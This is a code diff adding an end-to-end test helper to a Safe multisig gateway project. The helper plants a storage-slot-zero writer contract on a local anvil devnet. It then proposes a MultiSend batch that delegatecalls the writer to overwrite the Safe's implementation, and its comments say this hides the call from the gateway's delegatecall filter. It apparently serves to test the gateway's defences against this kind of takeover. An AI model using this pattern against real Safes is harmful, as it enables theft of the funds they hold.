@@ -1,6 +1,14 @@
+import { createTestClient, getAddress, http, type Address } from 'viem';
 import { privateKeyToAccount } from 'viem/accounts';
 import { createGatewayClient, proposalBody } from '@countersign/gateway-api';
-import { hashSafeTx, safeTxTypedData, type SafeTx } from '@countersign/safe-core';
+import {
+  buildSafeTx,
+  encodeMultiSend,
+  hashSafeTx,
+  safe141,
+  safeTxTypedData,
+  type SafeTx,
+} from '@countersign/safe-core';
 import { devAccount, teamSafe } from './owners';
 import type { E2eStack } from './stack';
 
@@ -23,4 +31,32 @@ export async function proposeAsOwnerA(stack: E2eStack, build: (nonce: bigint) =>
     body: proposalBody(tx, { safeTxHash, sender: owner.address, signature, origin: null }),
   });
   return { txId: details.txId, safeTxHash, nonce: Number(tx.nonce) };
+}
+
+/** A contract that writes its first argument to storage slot 0: SSTORE(0, CALLDATALOAD(4)). */
+const slotZeroWriter = getAddress('0x00000000000000000000000000000000c0de5107');
+
+/**
+ * Queues, as owner A, the 2025 heist's move against the demo team Safe: a delegatecall to a contract
+ * that writes `implementation` to slot 0. Our gateway refuses a delegatecall to anything but Safe's
+ * libraries, so it comes hidden in a batch: MultiSend (a trusted library) delegatecalls the writer.
+ */
+export async function proposeImplementationTakeover(stack: E2eStack, implementation: Address) {
+  const devnet = createTestClient({ mode: 'anvil', transport: http(stack.rpcUrl!) });
+  await devnet.setCode({ address: slotZeroWriter, bytecode: '0x60043560005500' });
+  return proposeAsOwnerA(stack, (nonce) =>
+    buildSafeTx({
+      to: safe141.multiSend,
+      data: encodeMultiSend([
+        {
+          to: slotZeroWriter,
+          value: 0n,
+          data: `0x12345678${implementation.slice(2).toLowerCase().padStart(64, '0')}`,
+          operation: 1,
+        },
+      ]),
+      operation: 1,
+      nonce,
+    }),
+  );
 }
